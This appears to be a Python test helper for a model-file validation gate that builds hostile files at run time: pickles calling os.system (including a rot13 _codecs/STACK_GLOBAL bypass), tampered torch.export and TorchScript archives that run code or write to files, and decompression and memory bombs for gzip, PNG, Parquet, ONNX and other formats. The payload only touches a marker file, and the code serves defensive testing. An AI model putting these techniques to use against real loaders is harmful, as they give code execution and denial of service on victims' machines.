"""Builders of hostile and broken files, made at test time (nothing hostile is committed).

Each reproduces an attack or an accident from the trust audit: archives whose pickles call
os.system, decompression bombs, models with NaN outputs, files truncated or garbled.
"""

from __future__ import annotations

import functools
import io
import os
import struct
import zipfile
import zlib
from pathlib import Path

import numpy as np


class Payload:
    """Unpickling this runs `touch MARKER`: what an attacker puts in a model file."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def evil_torch_save(marker: Path) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(Payload(marker), buf)
    return buf.getvalue()


def replace_members(src: Path, dst: Path, replace) -> Path:
    """Copy a zip archive, replacing members for which `replace(name)` returns bytes."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            data = replace(info.filename)
            zout.writestr(info, zin.read(info.filename) if data is None else data)
    return dst


def evil_pt2(good_pt2: Path, dst: Path, marker: Path) -> Path:
    """A real torch.export archive whose sample inputs unpickle to os.system (torch.export.load runs it)."""
    payload = evil_torch_save(marker)
    return replace_members(good_pt2, dst, lambda n: payload if "/data/sample_inputs/" in n else None)


def evil_ts(good_ts: Path, dst: Path, marker: Path) -> Path:
    """A real TorchScript archive whose constants pickle names os.system."""
    import pickle

    payload = pickle.dumps(Payload(marker), protocol=2)
    return replace_members(good_ts, dst, lambda n: payload if n.endswith("/constants.pkl") else None)


def evil_checkpoint(dst: Path, marker: Path) -> Path:
    dst.write_bytes(evil_torch_save(marker))
    return dst


def gzip_bomb(dst: Path, declared=(10000, 28, 28), inflated: int = 1 << 30) -> Path:
    """A valid IDX header for `declared` uint8 images, then zeros that inflate to `inflated` bytes (~1 MB per GiB)."""
    dst.write_bytes(_gzip_bomb_bytes(tuple(declared), inflated))
    return dst


@functools.lru_cache(maxsize=4)
def _gzip_bomb_bytes(declared: tuple, inflated: int) -> bytes:  # 1 GiB takes ~3 s to compress: made once
    header = bytes([0, 0, 8, len(declared)]) + np.asarray(declared, ">u4").tobytes()
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: gzip container
    parts = [comp.compress(header)]
    block = bytes(16 << 20)
    for _ in range(inflated // len(block)):
        parts.append(comp.compress(block))
    parts.append(comp.flush())
    return b"".join(parts)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(dst: Path, width: int, height: int, rows: int | None = None) -> Path:
    """A grayscale PNG of width x height whose rows are all black, compressed to a few hundred KB.

    `rows` limits how many rows the data holds (the header still claims `height`): a header-only
    bomb that no decoder should ever start on.
    """
    rows = height if rows is None else rows
    comp = zlib.compressobj(9)
    line = bytes(1 + width)  # filter byte 0 + black pixels
    parts = []
    for _ in range(rows):
        parts.append(comp.compress(line))
    parts.append(comp.flush())
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    dst.write_bytes(b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", b"".join(parts))
                    + _png_chunk(b"IEND", b""))
    return dst


def nan_onnx(dst: Path, uint8: bool = False) -> Path:
    """An ONNX model with the float contract whose logits are NaN for every input."""
    import onnx
    from onnx import TensorProto, helper

    w = np.full((784, 10), np.nan, np.float32)
    graph = helper.make_graph(
        [helper.make_node("Flatten", ["input"], ["flat"], axis=1), helper.make_node("MatMul", ["flat", "w"], ["logits"])],
        "nan", [helper.make_tensor_value_info("input", TensorProto.FLOAT, ["N", 1, 28, 28])],
        [helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["N", 10])],
        [onnx.numpy_helper.from_array(w, "w")])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)])
    model.ir_version = 9
    onnx.save(model, str(dst))
    return dst


def external_data_onnx(dst: Path, location: str) -> Path:
    """An ONNX model whose weights live in external data at `location` (e.g. outside its folder)."""
    import onnx
    from onnx import TensorProto, helper

    w = onnx.numpy_helper.from_array(np.zeros((784, 10), np.float32), "w")
    w.data_location = TensorProto.EXTERNAL
    del w.external_data[:]
    for k, v in (("location", location), ("offset", "0"), ("length", str(784 * 10 * 4))):
        e = w.external_data.add()
        e.key, e.value = k, v
    w.ClearField("raw_data")
    graph = helper.make_graph(
        [helper.make_node("Flatten", ["input"], ["flat"], axis=1), helper.make_node("MatMul", ["flat", "w"], ["logits"])],
        "ext", [helper.make_tensor_value_info("input", TensorProto.FLOAT, ["N", 1, 28, 28])],
        [helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["N", 10])], [w])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)])
    model.ir_version = 9
    dst.write_bytes(model.SerializeToString())
    return dst


def truncated(src: Path, dst: Path, fraction: float = 0.5) -> Path:
    data = Path(src).read_bytes()
    dst.write_bytes(data[: max(1, int(len(data) * fraction))])
    return dst


def garbage(dst: Path, n: int = 4096, seed: int = 0, head: bytes = b"") -> Path:
    dst.write_bytes(head + np.random.default_rng(seed).integers(0, 256, n, dtype=np.uint8).tobytes())
    return dst


def evil_pt2_program(good_pt2: Path, dst: Path, marker: Path, how: str) -> Path:
    """A torch.export archive whose program JSON makes torch run code: `guards` (exec'd by .module()),
    `expr` (a shape expression sympy evaluates at load) or `target` (a node calling os.system)."""
    import json

    command = f"__import__('os').system('touch {marker}')"

    def rewrite(name):
        if "/models/" not in name or not name.endswith(".json"):
            return None
        with zipfile.ZipFile(good_pt2) as z:
            doc = json.loads(z.read(name))
        if how == "guards":
            doc["guards_code"] = [command]
        elif how == "expr":
            text = json.dumps(doc)
            text = text.replace("Symbol('s", "(" + command.replace("'", "\\u0027") + ") or Symbol('s", 1)
            doc = json.loads(text)
        elif how == "target":
            text = json.dumps(doc).replace("torch.ops.aten.relu.default", "torch.serialization.os.system")
            doc = json.loads(text)
        return json.dumps(doc).encode()

    return replace_members(good_pt2, dst, rewrite)


# ---------------------------------------------------------------------------------------------
# The second trust audit (issue 20): each finding, built at run time


def codecs_stack_global_pickle(marker: Path) -> bytes:
    """A pickle that builds the strings "posix" and "system" at load time with the *allowed* global
    `_codecs.encode` (rot13), then asks for the global they name with STACK_GLOBAL and calls it. A simulation
    with inert placeholders cannot finish it; torch's weights-only unpickler refuses it; torch.export.load then
    retries with weights_only=False, and the real unpickler runs `touch MARKER`."""
    import pickle

    def text(s: str) -> bytes:
        raw = s.encode()
        return pickle.SHORT_BINUNICODE + bytes([len(raw)]) + raw

    def rot13(s: str) -> bytes:
        import codecs

        return (pickle.GLOBAL + b"_codecs\nencode\n" + pickle.MARK + text(codecs.encode(s, "rot13")) + text("rot13")
                + pickle.TUPLE + pickle.REDUCE)

    return (pickle.PROTO + b"\x04" + rot13("posix") + rot13("system") + pickle.STACK_GLOBAL + pickle.MARK
            + text(f"touch {marker}") + pickle.TUPLE + pickle.REDUCE + pickle.STOP)


def torch_save_zip_with_pickle(data_pkl: bytes) -> bytes:
    """A torch.save zip archive whose data.pkl is `data_pkl`."""
    import torch

    buf = io.BytesIO()
    torch.save({"x": torch.zeros(1)}, buf)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            zout.writestr(info, data_pkl if info.filename.endswith("/data.pkl") else zin.read(info.filename))
    return out.getvalue()


def pt2_codecs_attack(good_pt2: Path, dst: Path, marker: Path) -> Path:
    """Audit finding 1: the codecs/STACK_GLOBAL pickle as the program's sample inputs."""
    payload = torch_save_zip_with_pickle(codecs_stack_global_pickle(marker))
    return replace_members(good_pt2, dst, lambda n: payload if n.endswith("/data/sample_inputs/model.pt") else None)


def _pt2_config_attack(good_pt2: Path, dst: Path, marker: Path, how: str) -> Path:
    """Audit findings 2 and 3: a pickled weight (os.system) that the old gate took for a raw one, because a decoy
    config (`decoy`) or the same config (`twice`) also listed its path as raw. torch reads only
    model_weights_config.json and unpickles what it marks use_pickle, with weights_only=False."""
    import json

    payload = evil_torch_save(marker)
    # torch also reads the path as a raw float32 record (for the raw entry) before it unpickles it: its size must
    # be a multiple of 4. A zip's end record ends with its comment's length: pad the comment.
    pad = (-len(payload)) % 4
    payload = payload[:-2] + struct.pack("<H", pad) + b" " * pad
    with zipfile.ZipFile(good_pt2) as z:
        root = z.namelist()[0].split("/", 1)[0]
        config = json.loads(z.read(f"{root}/data/weights/model_weights_config.json"))
    first = next(iter(config["config"]))
    entry = config["config"][first]
    raw = dict(entry)
    if how == "twice":
        evil = {**entry, "path_name": "weight_evil", "use_pickle": True}
        config["config"]["attacker"] = evil
        decoy = {"config": {}}
        raw_for_decoy = {**raw, "path_name": "weight_evil", "use_pickle": False}
        config["config"]["attacker_raw"] = raw_for_decoy
    else:
        config["config"][first] = {**entry, "path_name": "weight_evil", "use_pickle": True}
        decoy = {"config": {first: {**raw, "path_name": "weight_evil", "use_pickle": False}}}
    out = replace_members(good_pt2, dst, lambda n: json.dumps(config).encode()
                          if n.endswith("/data/weights/model_weights_config.json") else None)
    with zipfile.ZipFile(out, "a") as z:
        z.writestr(f"{root}/data/weights/weight_evil", payload)
        if how == "decoy":
            z.writestr(f"{root}/data/weights/decoy_weights_config.json", json.dumps(decoy))
    return out


def pt2_decoy_config(good_pt2: Path, dst: Path, marker: Path) -> Path:
    return _pt2_config_attack(good_pt2, dst, marker, "decoy")


def pt2_raw_and_pickled(good_pt2: Path, dst: Path, marker: Path) -> Path:
    return _pt2_config_attack(good_pt2, dst, marker, "twice")


def ts_from_file(dst: Path, victim: Path, write: bool = True) -> Path:
    """A TorchScript module whose forward maps a file with torch.from_file(shared=True) and writes "PWNED" into
    it (or, with write=False, reads it into the logits). It has the float contract, so predict runs it."""
    import torch

    source = f'''
import torch
class Evil(torch.nn.Module):
    def forward(self, x):
        t = torch.from_file({str(victim)!r}, shared={write}, size=5, dtype=torch.uint8)
        {"t.copy_(torch.tensor([80, 87, 78, 69, 68], dtype=torch.uint8))" if write else "pass"}
        return x.flatten(1)[:, :10] + t.float().sum()
'''
    import importlib.util
    import warnings

    module_file = dst.parent / f"_{dst.stem.replace('-', '_')}_source.py"  # TorchScript compiles from the source
    module_file.write_text(source)
    spec = importlib.util.spec_from_file_location(module_file.stem, module_file)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.script(module.Evil()).save(str(dst))
    module_file.unlink()
    return dst


def pt2_target(good_pt2: Path, dst: Path, target: str, replaces: str = "torch.ops.aten.relu.default") -> Path:
    """A torch.export archive whose first `replaces` node calls `target` instead (aten.from_file reads a file)."""
    def rewrite(name):
        if "/models/" not in name or not name.endswith(".json"):
            return None
        with zipfile.ZipFile(good_pt2) as z:
            return z.read(name).decode().replace(replaces, target, 1).encode()

    return replace_members(good_pt2, dst, rewrite)


def pt2_expression(good_pt2: Path, dst: Path, expr: str) -> Path:
    """A torch.export archive whose first symbolic size is `expr` (e.g. s77*0+2**2**34)."""
    import json

    def rewrite(name):
        if "/models/" not in name or not name.endswith(".json"):
            return None
        with zipfile.ZipFile(good_pt2) as z:
            doc = json.loads(z.read(name))
        text = json.dumps(doc)
        start = text.index('"expr_str": "') + len('"expr_str": "')
        end = text.index('"', start)
        return (text[:start] + expr + text[end:]).encode()

    return replace_members(good_pt2, dst, rewrite)


def archive_with_huge_member(src: Path, dst: Path, suffix: str, nbytes: int) -> Path:
    """A copy of a torch archive whose member ending in `suffix` (a raw tensor record) holds `nbytes` zeros,
    deflated: 1.5 GiB is ~1.5 MB in the file. torch reads raw records whole, whatever their size."""
    block = bytes(32 << 20)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zout:
        for info in zin.infolist():
            if info.filename.endswith(suffix):
                with zout.open(zipfile.ZipInfo(info.filename), "w", force_zip64=True) as w:
                    for _ in range(nbytes // len(block)):
                        w.write(block)
            else:
                zout.writestr(info, zin.read(info.filename), compress_type=zipfile.ZIP_STORED)
    return dst


def onnx_constant_of_shape(dst: Path, shape=(65536, 65536)) -> Path:
    """A 1 KB ONNX model with the float contract whose ConstantOfShape makes a float tensor of `shape`
    (16 GiB for the default) that ONNX Runtime folds while it creates the session."""
    from onnx import TensorProto, helper, numpy_helper

    nodes = [
        helper.make_node("ConstantOfShape", ["shape"], ["big"], value=helper.make_tensor("v", TensorProto.FLOAT, [1], [1.0])),
        helper.make_node("ReduceSum", ["big"], ["total"], keepdims=0),
        helper.make_node("Flatten", ["input"], ["flat"], axis=1),
        helper.make_node("Slice", ["flat", "starts", "ends", "axes"], ["ten"]),
        helper.make_node("Add", ["ten", "total"], ["logits"]),
    ]
    inits = [numpy_helper.from_array(np.asarray(shape, np.int64), "shape"),
             numpy_helper.from_array(np.array([0], np.int64), "starts"),
             numpy_helper.from_array(np.array([10], np.int64), "ends"),
             numpy_helper.from_array(np.array([1], np.int64), "axes")]
    return _save_onnx(dst, nodes, inits)


def onnx_endless_loop(dst: Path) -> Path:
    """An ONNX model with the float contract whose Loop has no trip count and a condition that stays true."""
    from onnx import TensorProto, helper, numpy_helper

    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Identity", ["v_in"], ["v_out"])],
        "forever", [helper.make_tensor_value_info("i", TensorProto.INT64, []),
                    helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
                    helper.make_tensor_value_info("v_in", TensorProto.FLOAT, None)],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_out", TensorProto.FLOAT, None)])
    nodes = [helper.make_node("Flatten", ["input"], ["flat"], axis=1),
             helper.make_node("Loop", ["", "yes", "flat"], ["looped"], body=body),
             helper.make_node("Slice", ["looped", "starts", "ends", "axes"], ["logits"])]
    inits = [numpy_helper.from_array(np.array(True), "yes"),
             numpy_helper.from_array(np.array([0], np.int64), "starts"),
             numpy_helper.from_array(np.array([10], np.int64), "ends"),
             numpy_helper.from_array(np.array([1], np.int64), "axes")]
    return _save_onnx(dst, nodes, inits)


def _save_onnx(dst: Path, nodes, inits) -> Path:
    import onnx
    from onnx import TensorProto, helper

    graph = helper.make_graph(nodes, "hostile", [helper.make_tensor_value_info("input", TensorProto.FLOAT, ["N", 1, 28, 28])],
                              [helper.make_tensor_value_info("logits", TensorProto.FLOAT, None)], inits)
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)])
    model.ir_version = 9
    onnx.save(model, str(dst))
    return dst


def _patch_vector(data: bytearray, table, field: int, values, fmt: str) -> None:
    start, n = table._vector(field, struct.calcsize(fmt))
    assert n == len(values), (n, values)
    for i, v in enumerate(values):
        struct.pack_into(fmt, data, start + i * struct.calcsize(fmt), v)


def pte_planning(src: Path, dst: Path, nbytes: int = 4 << 30) -> Path:
    """An ExecuTorch program whose forward's memory plan asks for `nbytes` (the runtime allocates it when the
    method loads)."""
    from mnistkit.gate.flatbuf import Table

    data = bytearray(Path(src).read_bytes())
    plan = next(p for p in Table.root(data).tables(1) if p.string(0) == "forward")
    sizes = plan.scalars(8, "<q")
    _patch_vector(data, plan, 8, [*sizes[:-1], nbytes], "<q")
    dst.write_bytes(bytes(data))
    return dst


def tflite_big_tensor(src: Path, dst: Path, elements: int = 1 << 30) -> Path:
    """A LiteRT model whose first intermediate tensor of shape [1, K] (no constant data, not the input,
    K > 10) claims [1, `elements`]."""
    from mnistkit.gate.flatbuf import Table

    data = bytearray(Path(src).read_bytes())
    graph = Table.root(data).tables(2)[0]
    inputs = set(graph.scalars(1, "<i"))
    for i, tensor in enumerate(graph.tables(0)):
        shape = tensor.scalars(0, "<i")
        if i not in inputs and len(shape) == 2 and shape[0] == 1 and shape[1] > 10:
            _patch_vector(data, tensor, 0, [1, elements], "<i")
            if tensor.vector_len(7, 4) == 2:
                _patch_vector(data, tensor, 7, [-1, elements], "<i")
            break
    else:
        raise AssertionError("no [1, K] intermediate tensor found")
    dst.write_bytes(bytes(data))
    return dst


def parquet_bomb(dst: Path, nbytes: int = 512 << 20) -> Path:
    """A zstd Parquet file of a few KB whose one image value inflates to `nbytes` (the audit's was 1.5 GiB;
    512 MiB is over the 256 MiB input limit and keeps the test's own memory low)."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    value = pa.py_buffer(bytes(nbytes))
    offsets = pa.py_buffer(np.array([0, nbytes], np.int64).tobytes())
    column = pa.LargeBinaryArray.from_buffers(pa.large_binary(), 1, [None, offsets, value])
    # no dictionary, no statistics: pyarrow built both over the 512 MiB value (5 s); the footer still says its size
    pq.write_table(pa.table({"image": column}), dst, compression="zstd", compression_level=1, use_dictionary=False,
                   write_statistics=False)
    return dst


def ts_short_storage(good_ts: Path, dst: Path) -> Path:
    """A real TorchScript archive with one constant's storage record emptied (what the fuzz hunt found): torch.jit.load
    builds the tensor over a zero-byte storage, and running the model reads past it (a segfault, not an exception)."""
    with zipfile.ZipFile(good_ts) as zf:
        storages = sorted((i for i in zf.infolist() if "/constants/" in i.filename), key=lambda i: i.file_size)
    victim = storages[0].filename  # the smallest, the last layer's bias: a bias read past its storage segfaults
    return replace_members(good_ts, dst, lambda n: b"" if n == victim else None)


def checkpoint_view_past_storage(dst: Path) -> Path:
    """A torch.save archive whose tensor (size 1000) claims more elements than its storage (4) holds."""
    import pickle

    import torch

    class Tensor:
        def __reduce__(self):
            return torch._utils._rebuild_tensor_v2, (StorageRef(), 0, (1000,), (1,), False, {})

    class StorageRef:
        pass

    class Pickler(pickle.Pickler):
        def persistent_id(self, obj):
            return ("storage", torch.FloatStorage, "0", "cpu", 4) if isinstance(obj, StorageRef) else None

    buf = io.BytesIO()
    Pickler(buf, protocol=2).dump({"weight": Tensor()})
    good = io.BytesIO()
    torch.save({"weight": torch.zeros(4)}, good)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good.getvalue())) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            zout.writestr(info, buf.getvalue() if info.filename.endswith("/data.pkl") else zin.read(info.filename))
    dst.write_bytes(out.getvalue())
    return dst


def pt2_short_payload(good_pt2: Path, dst: Path) -> Path:
    """A real torch.export archive with one weight's payload emptied: torch.export.load builds the tensor anyway
    (over bytes the file does not hold) and the model runs with weights nobody wrote."""
    with zipfile.ZipFile(good_pt2) as zf:
        weights = sorted((i for i in zf.infolist() if "/data/weights/weight_" in i.filename), key=lambda i: i.file_size)
    victim = weights[0].filename
    return replace_members(good_pt2, dst, lambda n: b"" if n == victim else None)
